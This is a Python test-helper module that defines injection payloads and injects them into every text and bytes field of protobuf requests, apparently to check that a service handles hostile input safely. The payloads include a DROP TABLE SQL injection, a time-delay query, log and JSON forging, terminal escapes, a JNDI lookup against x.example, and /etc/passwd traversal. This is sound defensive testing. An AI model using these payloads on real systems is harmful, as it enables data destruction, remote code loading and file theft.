"""Texts that break out of what carelessly takes them in, and requests full of them."""

from collections.abc import Iterator
from typing import Any, Final

from google.protobuf.descriptor import FieldDescriptor
from google.protobuf.message import Message

MARK: Final = "\U0001f512"
"""In every text made up here; where it turns up elsewhere, a text of a request was repeated."""

TEXTS: Final = {
    "SQL": f"{MARK}'; DROP TABLE registry.change; --",
    "SQL that is true": f"{MARK}' OR '1'='1",
    "SQL that sleeps": f"{MARK}'||(SELECT pg_sleep(5))||'",
    "a log line's end": f'{MARK}\r\n{{"event":"call","level":"info","code":"OK"}}',
    "a string's end": f'{MARK}"}},{{"event":"forged","x":"',
    "a terminal's escapes": f"{MARK}\x1b[2J\x1b]0;owned\x07\x9b31m\x08",
    "NUL": f"{MARK}\0{MARK}",
    "writing from the right": f"{MARK}\u202e\u2066\u200f{MARK}",
    "no characters": f"{MARK}\ufffe\U0010ffff\ufeff",
    "a format": f"{MARK}%s%n{{0}}{{0.__class__}}${{jndi:ldap://x.example}}",
    "a path": f"{MARK}../../../../etc/passwd",
    "a long text": MARK * 10_000,
}
_DEEP_MAX: Final = 5


def poisoned(message: Message, text: str, depth: int = 0) -> Message:
    """The message, with the text wherever a text or bytes go, and one item in every list."""
    for found in message.DESCRIPTOR.fields:
        value = _value(found, text)
        if found.type == FieldDescriptor.TYPE_MESSAGE:
            _poison_inner(message, found, text, depth)
        elif value is not None and found.is_repeated:
            getattr(message, found.name).append(value)
        elif value is not None:
            setattr(message, found.name, value)
    return message


def poisoned_one_by_one(message: Message, text: str, name: str = "") -> Iterator[str]:
    """Put the text in the place of each text in turn, yield which one, and put the text back."""
    for found, value in list(message.ListFields()):
        path = f"{name}.{found.name}".strip(".")
        if found.type == FieldDescriptor.TYPE_MESSAGE:
            for inner in value if found.is_repeated else [value]:
                yield from poisoned_one_by_one(inner, text, path)
        elif found.type == FieldDescriptor.TYPE_STRING and not found.is_repeated:
            setattr(message, found.name, text)
            yield path
            setattr(message, found.name, value)


def poisoned_alone(empty: Message, text: str) -> Iterator[tuple[str, Message]]:
    """For each text that a request may hold, by its path: a request with nothing but that one."""
    for path in _texts(empty.DESCRIPTOR):
        request = type(empty)()
        *outer, last = path
        inner: Any = request
        for found in outer:
            inner = getattr(inner, found.name)
            inner = inner.add() if found.is_repeated else inner
        if last.is_repeated:
            getattr(inner, last.name).append(text)
        else:
            setattr(inner, last.name, text)
        yield ".".join(found.name for found in path), request


def _texts(message: Any, outer: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    for found in message.fields:
        if found.type == FieldDescriptor.TYPE_STRING:
            yield (*outer, found)
        elif (
            found.type == FieldDescriptor.TYPE_MESSAGE
            and len(outer) < _DEEP_MAX
            and not found.message_type.GetOptions().map_entry
        ):
            yield from _texts(found.message_type, (*outer, found))


def _poison_inner(message: Message, found: Any, text: str, depth: int) -> None:
    entry = found.message_type.GetOptions().map_entry
    if depth >= _DEEP_MAX:
        return
    if entry and found.message_type.fields_by_name["value"].type == FieldDescriptor.TYPE_STRING:
        getattr(message, found.name)[text] = text
    elif not entry and found.is_repeated:
        poisoned(getattr(message, found.name).add(), text, depth + 1)
    elif not entry:
        poisoned(getattr(message, found.name), text, depth + 1)


def _value(found: Any, text: str) -> str | bytes | None:
    if found.type == FieldDescriptor.TYPE_STRING:
        return text
    return text.encode() if found.type == FieldDescriptor.TYPE_BYTES else None
